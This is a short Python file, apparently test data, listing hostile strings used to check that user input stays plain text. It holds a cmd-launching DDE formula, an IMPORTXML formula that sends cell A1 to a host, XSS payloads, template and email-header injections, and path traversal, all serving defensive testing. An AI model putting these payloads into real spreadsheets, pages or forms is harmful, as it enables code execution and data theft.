"""Texts that somebody may type and that must stay texts wherever they are shown."""

NASTY = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://example.org\")", "=cmd|' /C calc'!A0",
    "\t=1+1", "'=1+1", "''=1+1", "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")", "%0A=1+1",
    "<script>alert(1)</script>", "</td><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>", "' onmouseover='alert(1)", "javascript:alert(1)", "<!-- -->", "]]>",
    "<style>*{display:none}</style>", "</style>", "</title>", "&lt;b&gt;", "&amp;", "&#60;", "a & b",
    "{{ 7 * 7 }}", "{% include 'x' %}", "{# x #}", "${7*7}", "#{7*7}", "{0}", "{name}", "%s %d", "%(x)s",
    "a\r\nBcc: x@example.org", "a\nSubject: x", "a\rb", "x;y,z", "\"quoted\"", "a\"b", "back\\slash", "a|b",
    "\u202egnirts", "\u200bhidden", "e\u0301", "\u00a0", "🎉", "مرحبا", "日本語", "ﬁ", "ß", "İ",
    "NULL", "None", "nan", "true", "1e5", "00123", "1/2", "../../x", "C:\\x", "con", "a" * 300,
)  # fmt: skip
